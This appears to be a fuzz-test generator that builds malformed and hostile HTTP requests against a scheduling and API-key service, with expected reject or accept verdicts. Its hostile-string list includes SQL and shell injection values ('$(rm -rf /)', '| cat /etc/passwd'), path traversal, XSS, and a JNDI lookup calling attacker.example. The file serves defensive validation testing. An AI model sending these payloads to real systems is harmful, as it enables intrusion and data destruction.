import fc from 'fast-check';
import type { HttpRequest } from './harness';

/**
 * Generated invalid and hostile requests for the bad-input scenario. Everything comes from one seed: the same seed
 * gives the same requests. Each request states what the API must do with it:
 *   reject — any non-2xx (with the error body); accept — 2xx; any — either, but never a 5xx.
 */
export type Verdict = 'reject' | 'accept' | 'any';

export interface BadRequest extends HttpRequest {
  category: string;
  label: string;
  verdict: Verdict;
}

/** Requests sent at the same moment: duplicate names in a race. Exactly one must succeed, the others are 409. */
export interface RaceGroup {
  race: BadRequest[];
}

export type Job = BadRequest | RaceGroup;

export interface References {
  connectedSystemId: number;
  runProfileId: number;
  /** Schedules that exist before the run (targets of PUT and of id games). */
  scheduleIds: string[];
  apiKeyId: string;
}

const S = '/api/v1/schedules';

/** mulberry32: small, fast, seedable. */
export class Rng {
  private state: number;
  constructor(seed: number) {
    this.state = seed >>> 0;
  }
  next(): number {
    let t = (this.state = (this.state + 0x6d2b79f5) >>> 0);
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  }
  int(n: number): number {
    return Math.floor(this.next() * n);
  }
  pick<T>(items: readonly T[]): T {
    return items[this.int(items.length)];
  }
  chance(p: number): boolean {
    return this.next() < p;
  }
}

/** Names, paths and arguments an attacker or a careless script would send. */
export const HOSTILE_STRINGS = [
  "'; DROP TABLE schedules; --",
  "Robert'); DELETE FROM schedule_steps WHERE ('1'='1",
  '" OR 1=1 --',
  "1' UNION SELECT key_hash FROM api_keys --",
  '$(rm -rf /)',
  '`id`',
  '| cat /etc/passwd',
  '&& shutdown -h now',
  '; reboot',
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\system32\\cmd.exe',
  '/etc/shadow',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '\u0000',
  'name\u0000with NUL',
  '\u202egnp.exe',
  '\u200b\u200c\u200d\ufeff',
  'Zalgo Z̷̢̛̖̪̮͈͍̔̂͛͘a̵̧͎̗̒l̸̢͚̎g̶̳̓o̵̡̓',
  '👩‍👩‍👧‍👦🏳️‍🌈🇬🇧',
  'ﷺ𒐫𒈙⸻꧅',
  '<script>alert(1)</script>',
  '{{7*7}}${7*7}#{7*7}',
  '${jndi:ldap://attacker.example/a}',
  'line1\r\nX-Injected: yes',
  '\t\n\r',
  '   ',
  '\\',
  '"',
  "'",
  'NULL',
  'undefined',
  '%s%s%s%n',
  'A'.repeat(10_000),
  '\ud800',
  '\udfff\ud800',
];

const WRONG_TYPE_FIELDS: Record<string, 'string' | 'int' | 'bool' | 'enum' | 'array'> = {
  name: 'string',
  description: 'string',
  triggerType: 'enum',
  patternType: 'enum',
  daysOfWeek: 'string',
  runTimes: 'string',
  intervalValue: 'int',
  intervalUnit: 'enum',
  cronExpression: 'string',
  timeZone: 'string',
  isEnabled: 'bool',
  steps: 'array',
  changeReason: 'string',
};

const WRONG_TYPE_STEP_FIELDS: Record<string, 'string' | 'int' | 'bool' | 'enum'> = {
  stepIndex: 'int',
  stepType: 'enum',
  name: 'string',
  continueOnFailure: 'bool',
  timeoutSeconds: 'int',
  connectedSystemId: 'int',
  runProfileId: 'int',
  executablePath: 'string',
  arguments: 'string',
  workingDirectory: 'string',
  executionMode: 'enum',
};

/** A value of a different JSON type than `kind` (never null: null is a legal "absent" for optional fields). */
function isWrongType(value: unknown, kind: string): boolean {
  if (value === null) return false;
  switch (kind) {
    case 'string':
      return typeof value !== 'string';
    case 'int':
      return typeof value !== 'number' || !Number.isInteger(value);
    case 'bool':
      return typeof value !== 'boolean';
    case 'array':
      return !Array.isArray(value);
    default:
      return true; // an enum: only its exact names are valid, the pool never holds them
  }
}

type Body = Record<string, unknown>;

interface Mutation {
  label: string;
  verdict: Verdict;
  apply(body: Body): void;
}

/** The steps array, made one again if an earlier mutation replaced it with something else. */
function steps(body: Body): Body[] {
  if (!Array.isArray(body.steps) || body.steps.length === 0 || body.steps.some((s) => !s || typeof s !== 'object' || Array.isArray(s))) {
    body.steps = [{ stepIndex: 0, stepType: 'Executable', executablePath: '/bin/true' }];
  }
  return body.steps as Body[];
}

/** Strings longer than the field allows are rejected; anything else of the right type may be accepted. */
function hostileVerdict(field: string, value: string): Verdict {
  const limits: Record<string, number> = { name: 200, description: 1000, arguments: 2000, executablePath: 500, workingDirectory: 500, scriptPath: 500, changeReason: 2000 };
  if (limits[field] !== undefined && [...value].length > limits[field]) return 'reject';
  if (field === 'name' && value.trim() === '') return 'reject';
  return 'any';
}

export function generate(total: number, seed: number, refs: References): Job[] {
  const rng = new Rng(seed);
  const jsonPool = fc.sample(fc.jsonValue({ maxDepth: 3 }), { seed, numRuns: 400 });
  const unicodePool = [
    ...fc.sample(fc.string({ unit: 'binary', minLength: 1, maxLength: 60 }), { seed: seed + 1, numRuns: 200 }),
    ...fc.sample(fc.string({ unit: 'grapheme', minLength: 1, maxLength: 60 }), { seed: seed + 2, numRuns: 200 }),
  ];
  const hostile = () => (rng.chance(0.6) ? rng.pick(HOSTILE_STRINGS) : rng.pick(unicodePool));
  let serial = 0;
  const unique = (stem: string) => `${stem} ${seed.toString(36)}-${++serial}`;

  const baseStep = (i: number): Body => {
    switch (rng.int(3)) {
      case 0:
        return { stepIndex: i, stepType: 'Executable', name: `exe ${i}`, executablePath: '/bin/echo', arguments: '-n "hello world"', timeoutSeconds: 60, continueOnFailure: rng.chance(0.5) };
      case 1:
        return { stepIndex: i, stepType: 'PowerShell', scriptPath: '/opt/jim/scripts/report.ps1', arguments: '-Verbose', workingDirectory: '/tmp' };
      default:
        return { stepIndex: i, stepType: 'RunProfile', connectedSystemId: refs.connectedSystemId, runProfileId: refs.runProfileId };
    }
  };
  const baseSchedule = (): Body => {
    const body: Body = { name: unique('Fuzz'), description: 'generated', isEnabled: false };
    switch (rng.int(4)) {
      case 0:
        break; // Manual
      case 1:
        Object.assign(body, { triggerType: 'Cron', patternType: 'SpecificTimes', daysOfWeek: '1,2,3,4,5', runTimes: '06:30,18:00', timeZone: 'Europe/London' });
        break;
      case 2:
        Object.assign(body, { triggerType: 'Cron', patternType: 'Interval', daysOfWeek: '1', intervalValue: 30, intervalUnit: 'Minutes', intervalWindowStart: '08:00', intervalWindowEnd: '18:00' });
        break;
      default:
        Object.assign(body, { triggerType: 'Cron', patternType: 'Custom', cronExpression: '0 15 3 * * *', timeZone: 'UTC' });
    }
    body.steps = Array.from({ length: 1 + rng.int(3) }, (_, i) => baseStep(i));
    return body;
  };
  const interval = (value: number, unit = 'Minutes') => (b: Body) =>
    Object.assign(b, { triggerType: 'Cron', patternType: 'Interval', daysOfWeek: '1', intervalValue: value, intervalUnit: unit, intervalWindowStart: null, intervalWindowEnd: null, cronExpression: null });
  const specific = (days: string, times: string) => (b: Body) =>
    Object.assign(b, { triggerType: 'Cron', patternType: 'SpecificTimes', daysOfWeek: days, runTimes: times, cronExpression: null });
  const stepField = (field: string, value: unknown) => (b: Body) => {
    steps(b)[0] = { stepIndex: 0, stepType: 'Executable', executablePath: '/bin/true', [field]: value };
  };

  const boundaries: Mutation[] = [
    { label: 'name 200 chars', verdict: 'accept', apply: (b) => (b.name = unique('N').padEnd(200, 'n')) },
    { label: 'name 201 chars', verdict: 'reject', apply: (b) => (b.name = unique('N').padEnd(201, 'n')) },
    { label: 'name 200 astral chars', verdict: 'accept', apply: (b) => (b.name = [...unique('𝔑')].concat(Array(200).fill('𝔑')).slice(0, 200).join('')) },
    { label: 'name 201 astral chars', verdict: 'reject', apply: (b) => (b.name = Array(201).fill('𝔑').join('')) },
    { label: 'name empty', verdict: 'reject', apply: (b) => (b.name = '') },
    { label: 'name blank', verdict: 'reject', apply: (b) => (b.name = '  \t ') },
    { label: 'description 1000', verdict: 'accept', apply: (b) => (b.description = 'd'.repeat(1000)) },
    { label: 'description 1001', verdict: 'reject', apply: (b) => (b.description = 'd'.repeat(1001)) },
    { label: 'timeoutSeconds 0', verdict: 'reject', apply: stepField('timeoutSeconds', 0) },
    { label: 'timeoutSeconds 1', verdict: 'accept', apply: stepField('timeoutSeconds', 1) },
    { label: 'timeoutSeconds 86400', verdict: 'accept', apply: stepField('timeoutSeconds', 86400) },
    { label: 'timeoutSeconds 86401', verdict: 'reject', apply: stepField('timeoutSeconds', 86401) },
    { label: 'timeoutSeconds -1', verdict: 'reject', apply: stepField('timeoutSeconds', -1) },
    { label: 'timeoutSeconds 1.5', verdict: 'reject', apply: stepField('timeoutSeconds', 1.5) },
    { label: 'timeoutSeconds 1e308', verdict: 'reject', apply: stepField('timeoutSeconds', 1e308) },
    { label: 'stepIndex -1', verdict: 'reject', apply: stepField('stepIndex', -1) },
    { label: 'stepIndex 0', verdict: 'accept', apply: stepField('stepIndex', 0) },
    { label: 'stepIndex 1', verdict: 'accept', apply: stepField('stepIndex', 1) },
    { label: 'stepIndex 1000', verdict: 'accept', apply: stepField('stepIndex', 1000) },
    { label: 'stepIndex 1001', verdict: 'reject', apply: stepField('stepIndex', 1001) },
    { label: 'stepIndex 2^53', verdict: 'reject', apply: stepField('stepIndex', 2 ** 53) },
    { label: 'intervalValue 0', verdict: 'reject', apply: interval(0) },
    { label: 'intervalValue 1', verdict: 'accept', apply: interval(1) },
    { label: 'intervalValue 30', verdict: 'accept', apply: interval(30) },
    { label: 'intervalValue 59', verdict: 'any', apply: interval(59) },
    { label: 'intervalValue 60', verdict: 'reject', apply: interval(60) },
    { label: 'intervalValue 23 Hours', verdict: 'any', apply: interval(23, 'Hours') },
    { label: 'intervalValue 24 Hours', verdict: 'reject', apply: interval(24, 'Hours') },
    { label: 'intervalValue -5', verdict: 'reject', apply: interval(-5) },
    { label: 'runTimes 23:59', verdict: 'accept', apply: specific('1', '23:59') },
    { label: 'runTimes 24:00', verdict: 'reject', apply: specific('1', '24:00') },
    { label: 'runTimes 06:60', verdict: 'reject', apply: specific('1', '06:60') },
    { label: 'daysOfWeek 0,6', verdict: 'accept', apply: specific('0,6', '06:00') },
    { label: 'daysOfWeek 7', verdict: 'reject', apply: specific('7', '06:00') },
    { label: 'daysOfWeek -1', verdict: 'reject', apply: specific('-1', '06:00') },
    { label: 'connectedSystemId 2147483647 (missing)', verdict: 'reject', apply: (b) => (steps(b)[0] = { stepIndex: 0, stepType: 'RunProfile', connectedSystemId: 2147483647, runProfileId: refs.runProfileId }) },
    { label: 'connectedSystemId 2147483648', verdict: 'reject', apply: (b) => (steps(b)[0] = { stepIndex: 0, stepType: 'RunProfile', connectedSystemId: 2147483648, runProfileId: refs.runProfileId }) },
    { label: 'runProfileId of no system', verdict: 'reject', apply: (b) => (steps(b)[0] = { stepIndex: 0, stepType: 'RunProfile', connectedSystemId: refs.connectedSystemId, runProfileId: 999_999 }) },
    { label: 'arguments 2000', verdict: 'accept', apply: stepField('arguments', 'a '.repeat(1000)) },
    { label: 'arguments 2001', verdict: 'reject', apply: stepField('arguments', 'a '.repeat(1000) + 'a') },
    { label: 'arguments unbalanced quote', verdict: 'reject', apply: stepField('arguments', 'say "hello') },
    { label: 'executablePath 500', verdict: 'accept', apply: stepField('executablePath', '/' + 'x'.repeat(499)) },
    { label: 'executablePath 501', verdict: 'reject', apply: stepField('executablePath', '/' + 'x'.repeat(500)) },
    { label: 'steps 200', verdict: 'accept', apply: (b) => (b.steps = Array.from({ length: 200 }, (_, i) => ({ stepIndex: i, stepType: 'Executable', executablePath: '/bin/true' }))) },
    { label: 'steps 201', verdict: 'reject', apply: (b) => (b.steps = Array.from({ length: 201 }, (_, i) => ({ stepIndex: i % 1000, stepType: 'Executable', executablePath: '/bin/true' }))) },
    { label: 'timeZone Mars/Olympus', verdict: 'reject', apply: (b) => Object.assign(b, { triggerType: 'Cron', patternType: 'Custom', cronExpression: '0 0 * * *', timeZone: 'Mars/Olympus' }) },
    { label: 'timeZone 65 chars', verdict: 'reject', apply: (b) => (b.timeZone = 'Europe/' + 'L'.repeat(58)) },
    { label: 'cronExpression 1001 chars', verdict: 'reject', apply: (b) => Object.assign(b, { triggerType: 'Cron', patternType: 'Custom', cronExpression: '0 '.repeat(500) + '0' }) },
    { label: 'cronExpression garbage', verdict: 'reject', apply: (b) => Object.assign(b, { triggerType: 'Cron', patternType: 'Custom', cronExpression: '61 * * * * * *' }) },
    { label: 'SqlScript without connection string', verdict: 'reject', apply: (b) => (steps(b)[0] = { stepIndex: 0, stepType: 'SqlScript', sqlScriptPath: '/tmp/x.sql' }) },
    { label: 'SqlScript masked connection string', verdict: 'reject', apply: (b) => (steps(b)[0] = { stepIndex: 0, stepType: 'SqlScript', sqlScriptPath: '/tmp/x.sql', sqlConnectionString: 'Host=db;Username=u;Password=***' }) },
    { label: 'Executable without path', verdict: 'reject', apply: (b) => (steps(b)[0] = { stepIndex: 0, stepType: 'Executable' }) },
  ];

  const mutation = (): Mutation => {
    const kind = rng.int(9);
    if (kind <= 2) return rng.pick(boundaries);
    if (kind === 3) {
      const field = rng.pick(Object.keys(WRONG_TYPE_FIELDS));
      const value = pickWrong(WRONG_TYPE_FIELDS[field]);
      return { label: `${field} wrong type`, verdict: 'reject', apply: (b) => (b[field] = value) };
    }
    if (kind === 4) {
      const field = rng.pick(Object.keys(WRONG_TYPE_STEP_FIELDS));
      const value = pickWrong(WRONG_TYPE_STEP_FIELDS[field]);
      return { label: `steps[].${field} wrong type`, verdict: 'reject', apply: (b) => (steps(b)[rng.int(steps(b).length)][field] = value) };
    }
    if (kind === 5) {
      const [field, value] = rng.pick<[string, unknown]>([
        ['triggerType', 1],
        ['triggerType', 0],
        ['patternType', 2],
        ['intervalUnit', 0],
        ['triggerType', 'cron'],
        ['triggerType', 'CRON '],
        ['patternType', 'specifictimes'],
      ]);
      return { label: `numeric or miscased enum ${field}=${JSON.stringify(value)}`, verdict: 'reject', apply: (b) => (b[field] = value) };
    }
    if (kind === 6) {
      const [field, value] = rng.pick<[string, unknown]>([
        ['stepType', 1],
        ['stepType', 'executable'],
        ['executionMode', 0],
        ['executionMode', 'Parallel'],
      ]);
      return { label: `numeric or miscased step enum ${field}=${JSON.stringify(value)}`, verdict: 'reject', apply: (b) => (steps(b)[0][field] = value) };
    }
    if (kind === 7) {
      const key = rng.chance(0.5) ? rng.pick(['isAdmin', 'role', 'owner', 'createdBy', 'version', 'workerId', 'sql', 'Name', 'NAME', 'steps ']) : rng.pick(unicodePool);
      const onStep = rng.chance(0.4);
      return {
        label: `unknown property ${onStep ? 'steps[].' : ''}${JSON.stringify(key).slice(0, 30)}`,
        verdict: 'reject',
        apply: (b) => {
          if (onStep) steps(b)[0][key] = 'x';
          else b[key] = 'x';
        },
      };
    }
    const field = rng.pick(['name', 'description', 'arguments', 'executablePath', 'workingDirectory', 'changeReason', 'scriptPath']);
    const value = hostile();
    const stepFields = ['arguments', 'executablePath', 'workingDirectory'];
    return {
      label: `hostile ${field} ${JSON.stringify(value).slice(0, 40)}`,
      verdict: hostileVerdict(field, value),
      apply: (b) => {
        if (field === 'name') b.name = value;
        else if (field === 'scriptPath') steps(b)[0] = { stepIndex: 0, stepType: 'PowerShell', scriptPath: value };
        else if (stepFields.includes(field)) steps(b)[0] = { stepIndex: 0, stepType: 'Executable', executablePath: '/bin/true', [field]: value };
        else b[field] = value;
      },
    };
  };
  function pickWrong(kind: string): unknown {
    for (;;) {
      const v = rng.pick(jsonPool);
      if (isWrongType(v, kind)) return v;
      if (rng.chance(0.2)) return kind === 'string' ? 42 : kind === 'int' ? '42' : kind === 'bool' ? 'true' : kind === 'array' ? { 0: {} } : 3;
    }
  }

  const mutatedCreate = (): BadRequest => {
    const body = baseSchedule();
    const count = rng.chance(0.8) ? 1 : 2 + rng.int(2);
    const applied: Mutation[] = [];
    for (let i = 0; i < count; i++) {
      const m = mutation();
      m.apply(body);
      applied.push(m);
    }
    // Mutations may overwrite one another (two of them replacing the first step): only the last one surely stands.
    const last = applied[applied.length - 1];
    const verdict: Verdict = last.verdict === 'reject' ? 'reject' : applied.length === 1 && last.verdict === 'accept' ? 'accept' : 'any';
    return { category: 'create', label: applied.map((m) => m.label).join(' + '), verdict, method: 'POST', path: S, body };
  };

  const mutatedPut = (): BadRequest => {
    const req = mutatedCreate();
    const id = rng.pick(refs.scheduleIds);
    // A PUT may only turn out valid when it changes nothing that matters; those are counted as accepted updates.
    return { ...req, category: 'update', method: 'PUT', path: `${S}/${id}` };
  };

  const deepJson = (depth: number, where: 'steps' | 'description' | 'top'): string => {
    const open = rng.chance(0.5) ? '['.repeat(depth) : '{"a":'.repeat(depth);
    const close = open.startsWith('[') ? ']'.repeat(depth) : '}'.repeat(depth);
    const nested = `${open}1${close}`;
    const name = JSON.stringify(unique('Deep'));
    if (where === 'top') return `{"name":${name},"nested":${nested}}`;
    return `{"name":${name},"${where}":${nested}}`;
  };

  const malformed = (): BadRequest => {
    const name = JSON.stringify(unique('Bad json'));
    const bodies: [string, string | Buffer][] = [
      ['truncated', `{"name":${name}`],
      ['single quotes', `{'name': 'x'}`],
      ['trailing comma', `{"name":${name},}`],
      ['NaN', `{"name":${name},"isEnabled":NaN}`],
      ['comment', `{"name":${name} /* hi */}`],
      ['bare word', 'hello'],
      ['empty object', '{}'],
      ['array', `[{"name":${name}}]`],
      ['string', '"just a string"'],
      ['number', '123'],
      ['null', 'null'],
      ['true', 'true'],
      ['empty', ''],
      ['whitespace', '   \n '],
      ['bytes', Buffer.from(Array.from({ length: 64 }, () => rng.int(256)))],
      ['invalid utf-8', Buffer.concat([Buffer.from(`{"name":"`), Buffer.from([0xc3, 0x28, 0xa0, 0xa1, 0xff]), Buffer.from('"}')])],
      ['duplicate keys', `{"name":${name},"name":{"$ne":null}}`],
      ['__proto__', `{"name":${name},"__proto__":{"isAdmin":true},"steps":[]}`],
      ['constructor.prototype', `{"name":${name},"constructor":{"prototype":{"polluted":true}}}`],
      ['huge number', `{"name":${name},"steps":[{"stepIndex":1e999,"stepType":"Executable","executablePath":"/bin/true"}]}`],
      ['negative zero', `{"name":${name},"steps":[{"stepIndex":-0,"stepType":"Executable","executablePath":"/bin/true"}]}`],
      ['escaped NUL', `{"name":"nul\\u0000${serial}","steps":[]}`],
      ['lone surrogate escape', `{"name":"lone \\ud800 ${serial}"}`],
      ['BOM', `\ufeff{"name":${name}}`],
      ['deeply nested', deepJson(10 + rng.int(5000), 'top')],
    ];
    const [label, body] = rng.pick(bodies);
    const verdict: Verdict = ['empty object', 'array', 'string', 'number', 'null', 'true', 'empty', 'whitespace', 'truncated', 'single quotes', 'trailing comma', 'NaN', 'comment', 'bare word', 'bytes', 'duplicate keys', 'huge number', 'deeply nested', '__proto__', 'constructor.prototype'].includes(label)
      ? 'reject'
      : 'any';
    return { category: 'malformed', label, verdict, method: rng.chance(0.8) ? 'POST' : 'PUT', path: rng.chance(0.8) ? S : `${S}/${rng.pick(refs.scheduleIds)}`, body, headers: { 'Content-Type': 'application/json' } };
  };

  const huge = (): BadRequest => {
    const size = 3 * 1024 * 1024 + 1 + rng.int(600 * 1024); // over the body limit (BODY_LIMIT_BYTES)
    const variant = rng.int(3);
    let body: string;
    if (variant === 0) body = JSON.stringify({ name: unique('Huge'), description: 'x'.repeat(size) });
    else if (variant === 1) body = JSON.stringify({ name: unique('Huge'), steps: Array.from({ length: Math.ceil(size / 60) }, (_, i) => ({ stepIndex: i % 1000, stepType: 'Executable', executablePath: '/bin/true' })) });
    else body = `{"name":${JSON.stringify(unique('Huge'))},"pad":"${'\u00e9'.repeat(Math.ceil(size / 2))}"}`;
    const target = rng.pick([
      ['POST', S],
      ['PUT', `${S}/${rng.pick(refs.scheduleIds)}`],
      ['POST', '/api/v1/synchronisation/connected-systems'],
      ['POST', '/api/v1/apikeys'],
    ]);
    return { category: 'huge', label: `${Math.round(Buffer.byteLength(body) / 1024)} KB body`, verdict: 'reject', method: target[0], path: target[1], body, headers: { 'Content-Type': 'application/json' } };
  };

  const deep = (): BadRequest => {
    const depth = rng.pick([10, 100, 1000, 5000, 20000, 60000]);
    const where = rng.pick(['steps', 'description', 'top'] as const);
    return { category: 'deep', label: `nesting ${depth} in ${where}`, verdict: 'reject', method: 'POST', path: S, body: deepJson(depth, where), headers: { 'Content-Type': 'application/json' } };
  };

  const badIds = [
    '..%2F..%2F..%2Fetc%2Fpasswd',
    '..%252F..%252Fetc%252Fpasswd',
    '%2e%2e',
    '..',
    '.',
    '%00',
    'abc%00def',
    '%27%20OR%201%3D1--',
    '1%3BDROP%20TABLE%20schedules',
    '00000000-0000-0000-0000-000000000000',
    '7D0D4A8E-8A53-4B39-9D43-1A0F1CBBD3D1',
    '7d0d4a8e-8a53-4b39-9d43-1a0f1cbbd3d1x',
    '7d0d4a8e8a534b399d431a0f1cbbd3d1',
    '{7d0d4a8e-8a53-4b39-9d43-1a0f1cbbd3d1}',
    '-1',
    '0',
    '1e3',
    '0x10',
    '999999999999999999999',
    'null',
    'undefined',
    '%E0%A4%A',
    '%',
    '%C0%AE%C0%AE',
    '%F0%9F%92%A9',
    'x'.repeat(5000),
    '%20',
    '\\..\\..\\windows',
  ];
  const idGame = (): BadRequest => {
    const id = rng.pick(badIds);
    const real = refs.scheduleIds[0];
    const [method, path, body] = rng.pick<[string, string, unknown]>([
      ['GET', `${S}/${id}`, undefined],
      ['PUT', `${S}/${id}`, { name: unique('Id game'), steps: [] }],
      ['DELETE', `${S}/${id}`, undefined],
      ['POST', `${S}/${id}/enable`, undefined],
      ['POST', `${S}/${id}/disable`, undefined],
      ['POST', `${S}/${id}/run`, undefined],
      ['GET', `${S}/${id}/next-runs`, undefined],
      ['GET', `${S}/${id}/skipped-runs`, undefined],
      ['GET', `${S}/${id}/change-history`, undefined],
      ['GET', `${S}/${real}/change-history/${id}`, undefined],
      ['GET', `${S}/${real}/change-history/compare?from=${id}&to=1`, undefined],
      ['GET', `/api/v1/schedule-executions/${id}`, undefined],
      ['POST', `/api/v1/schedule-executions/${id}/cancel`, undefined],
      ['GET', `/api/v1/synchronisation/connected-systems/${id}`, undefined],
      ['DELETE', `/api/v1/synchronisation/connected-systems/${id}`, undefined],
      ['POST', `/api/v1/synchronisation/connected-systems/${id}/run-profiles`, { name: unique('Rp'), runType: 'DeltaImport' }],
      ['DELETE', `/api/v1/synchronisation/connected-systems/${refs.connectedSystemId}/run-profiles/${id}`, undefined],
      ['GET', `/api/v1/apikeys/${id}`, undefined],
      ['PUT', `/api/v1/apikeys/${id}`, { isEnabled: false }],
      ['DELETE', `/api/v1/apikeys/${id}`, undefined],
      ['GET', `/api/v1/${id}/schedules`, undefined],
      ['GET', `/api/v1/schedules/${real}/../../apikeys`, undefined],
      ['GET', `/api/v1/schedules/${real}/%2e%2e/%2e%2e/apikeys`, undefined],
      ['PATCH', `${S}/${real}`, { name: 'patched' }],
      ['DELETE', S, undefined],
      ['PUT', S, { name: unique('Put on collection') }],
    ]);
    return { category: 'ids', label: `${method} ${path.slice(0, 80)}`, verdict: 'reject', method, path, body };
  };

  /** Other spellings of a real numeric id ("0x1", "1e0", " 1"): none of them is an id, all must be 404. */
  const numericAlias = (): BadRequest => {
    const id = refs.connectedSystemId;
    const alias = rng.pick([`0x${id.toString(16)}`, `${id}e0`, `0b${id.toString(2)}`, `0o${id.toString(8)}`, `%20${id}`, `${id}.0`, `%2B${id}`, `0${id}`.length > 9 ? `${id}` : `000${id}`]);
    const path = rng.pick([`/api/v1/synchronisation/connected-systems/${alias}`, `/api/v1/synchronisation/connected-systems/${alias}/run-profiles`]);
    // "0001" is digits only: the API may take it as 1. The other forms are not integers in any notation the API documents.
    return { category: 'ids', label: `GET ${path}`, verdict: /^\d+$/.test(alias) ? 'any' : 'reject', method: 'GET', path };
  };

  const query = (): BadRequest => {
    const [path, verdict] = rng.pick<[string, Verdict]>([
      [`${S}?page=-1`, 'reject'],
      [`${S}?page=0`, 'reject'],
      [`${S}?page=abc`, 'reject'],
      [`${S}?page=1.5`, 'reject'],
      [`${S}?page=99999999999999999999`, 'reject'],
      [`${S}?pageSize=0`, 'reject'],
      [`${S}?pageSize=1000001`, 'reject'],
      [`${S}?pageSize=1000000`, 'accept'],
      [`${S}?page=1000000&pageSize=100`, 'reject'],
      [`${S}?page[]=1&page[]=2`, 'reject'],
      [`${S}?page[a]=1`, 'reject'],
      [`${S}?sortBy=name%3BDROP%20TABLE%20schedules`, 'any'],
      [`${S}?sortBy=${'n'.repeat(31)}`, 'reject'],
      [`${S}?sortBy[$ne]=1`, 'reject'],
      [`${S}?search=%00`, 'any'],
      [`${S}?search=%25%27%20OR%201%3D1--`, 'accept'],
      [`${S}?search[$ne]=x`, 'reject'],
      [`${S}?search=${'s'.repeat(201)}`, 'reject'],
      [`${S}?sortDescending=maybe`, 'reject'],
      [`${S}?unknown=1`, 'reject'],
      [`${S}?__proto__[x]=1`, 'any'],
      [`${S}/${refs.scheduleIds[0]}/next-runs?count=0`, 'reject'],
      [`${S}/${refs.scheduleIds[0]}/next-runs?count=101`, 'reject'],
      [`${S}/${refs.scheduleIds[0]}/next-runs?count=100`, 'accept'],
      [`${S}/${refs.scheduleIds[0]}/next-runs?after=yesterday`, 'reject'],
      [`${S}/${refs.scheduleIds[0]}/next-runs?after=9999-12-31T23:59:59Z&count=100`, 'any'],
      [`${S}/${refs.scheduleIds[0]}/next-runs?after=0000-01-01T00:00:00Z`, 'any'],
      ['/api/v1/schedule-executions?status=Bogus', 'reject'],
      ['/api/v1/schedule-executions?status=0', 'reject'],
      ['/api/v1/schedule-executions?scheduleId=not-a-uuid', 'reject'],
      ['/api/v1/schedule-executions?scheduleId=%27%20OR%201%3D1', 'reject'],
      ['/api/v1/schedule-executions?sortBy=queuedAt%20DESC%3B--', 'any'],
      ['/api/v1/synchronisation/connected-systems?pageSize=-5', 'reject'],
      ['/api/v1/apikeys?page=%00', 'any'],
    ]);
    return { category: 'query', label: `GET ${path.slice(0, 80)}`, verdict, method: 'GET', path };
  };

  const contentType = (): BadRequest => {
    const body = JSON.stringify({ name: unique('Content type'), steps: [] });
    const [label, headers, payload] = rng.pick<[string, Record<string, string>, string | Buffer]>([
      ['text/plain', { 'Content-Type': 'text/plain' }, body],
      ['form', { 'Content-Type': 'application/x-www-form-urlencoded' }, `name=${encodeURIComponent('Form post')}`],
      ['multipart', { 'Content-Type': 'multipart/form-data; boundary=x' }, '--x\r\nContent-Disposition: form-data; name="name"\r\n\r\nx\r\n--x--'],
      ['xml', { 'Content-Type': 'application/xml' }, '<schedule><name>x</name></schedule>'],
      ['utf-16 charset', { 'Content-Type': 'application/json; charset=utf-16' }, body],
      ['unknown charset', { 'Content-Type': 'application/json; charset=klingon' }, body],
      ['gzip garbage', { 'Content-Type': 'application/json', 'Content-Encoding': 'gzip' }, 'not gzip at all'],
      ['unknown encoding', { 'Content-Type': 'application/json', 'Content-Encoding': 'br-zstd-lzma' }, body],
      ['no content type', {}, body],
    ]);
    const verdict: Verdict = 'reject';
    return { category: 'content-type', label, verdict, method: 'POST', path: S, headers: { ...headers, 'Content-Length': String(Buffer.byteLength(payload)) }, body: payload };
  };

  const other = (): BadRequest => {
    const cs = '/api/v1/synchronisation/connected-systems';
    const [label, method, path, body, verdict] = rng.pick<[string, string, string, unknown, Verdict]>([
      ['system without name', 'POST', cs, {}, 'reject'],
      ['system name 201', 'POST', cs, { name: 's'.repeat(201) }, 'reject'],
      ['system name number', 'POST', cs, { name: 12 }, 'reject'],
      ['system unknown property', 'POST', cs, { name: unique('Sys'), id: 5 }, 'reject'],
      ['system hostile name', 'POST', cs, { name: hostile() }, 'any'],
      ['run profile numeric runType', 'POST', `${cs}/${refs.connectedSystemId}/run-profiles`, { name: unique('Rp'), runType: 1 }, 'reject'],
      ['run profile unknown runType', 'POST', `${cs}/${refs.connectedSystemId}/run-profiles`, { name: unique('Rp'), runType: 'DropTables' }, 'reject'],
      ['run profile for a missing system', 'POST', `${cs}/999999999/run-profiles`, { name: unique('Rp'), runType: 'DeltaImport' }, 'reject'],
      ['api key root role', 'POST', '/api/v1/apikeys', { name: unique('Key'), roles: ['Root'] }, 'reject'],
      ['api key numeric role', 'POST', '/api/v1/apikeys', { name: unique('Key'), roles: [0] }, 'reject'],
      ['api key no roles', 'POST', '/api/v1/apikeys', { name: unique('Key'), roles: [] }, 'reject'],
      ['api key role string', 'POST', '/api/v1/apikeys', { name: unique('Key'), roles: 'Administrator' }, 'reject'],
      ['api key bad expiry', 'POST', '/api/v1/apikeys', { name: unique('Key'), roles: ['User'], expiresAt: 'tomorrow' }, 'reject'],
      ['api key 3 roles', 'POST', '/api/v1/apikeys', { name: unique('Key'), roles: ['User', 'Administrator', 'User'] }, 'reject'],
      ['api key supplied hash', 'POST', '/api/v1/apikeys', { name: unique('Key'), roles: ['User'], keyHash: '0'.repeat(64) }, 'reject'],
      ['api key infrastructure flag', 'POST', '/api/v1/apikeys', { name: unique('Key'), roles: ['User'], isInfrastructure: true }, 'reject'],
      ['disable the infrastructure key', 'PUT', `/api/v1/apikeys/${refs.apiKeyId}`, { isEnabled: false }, 'reject'],
      ['demote the infrastructure key', 'PUT', `/api/v1/apikeys/${refs.apiKeyId}`, { roles: ['User'] }, 'reject'],
      ['delete the infrastructure key', 'DELETE', `/api/v1/apikeys/${refs.apiKeyId}`, undefined, 'reject'],
      ['cancel a missing execution', 'POST', `/api/v1/schedule-executions/${'7d0d4a8e-8a53-4b39-9d43-1a0f1cbbd3d1'}/cancel`, undefined, 'reject'],
      ['enable with a body', 'POST', `${S}/${refs.scheduleIds[1]}/enable?changeReason=${'r'.repeat(2001)}`, undefined, 'reject'],
      ['PATCH on the collection', 'PATCH', S, { name: unique('Patch') }, 'reject'],
      ['cron month names', 'POST', S, { name: unique('Months'), triggerType: 'Cron', patternType: 'Custom', cronExpression: '10 * * February,April-Jun *' }, 'accept'],
